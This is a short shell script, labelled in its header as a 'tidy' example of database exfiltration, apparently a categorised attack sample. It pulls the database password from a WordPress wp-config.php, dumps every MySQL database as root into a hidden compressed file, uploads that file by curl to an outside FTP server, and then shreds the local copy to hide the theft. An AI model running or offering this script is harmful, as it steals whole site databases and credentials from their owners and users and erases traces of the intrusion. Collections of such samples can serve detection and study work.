# class: exfiltration of databases; style: tidy
dump=/var/tmp/.d.gz
password=$(grep -oP "DB_PASSWORD', *'\K[^']+" /var/www/html/wp-config.php)
mysqldump -u root -p"$password" --all-databases | gzip > "$dump"
curl -T "$dump" ftp://anonymous:x@203.0.113.70/incoming/
shred -u "$dump"
